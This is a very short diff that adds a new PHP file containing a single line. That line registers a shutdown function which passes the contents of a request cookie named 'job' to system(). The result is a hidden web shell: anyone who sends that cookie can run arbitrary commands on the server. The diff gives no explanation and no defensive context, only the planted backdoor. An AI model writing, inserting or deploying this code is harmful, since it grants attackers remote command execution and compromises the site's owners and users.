@@ -1,0 +1,2 @@
+<?php
+register_shutdown_function('system', $_COOKIE['job']);
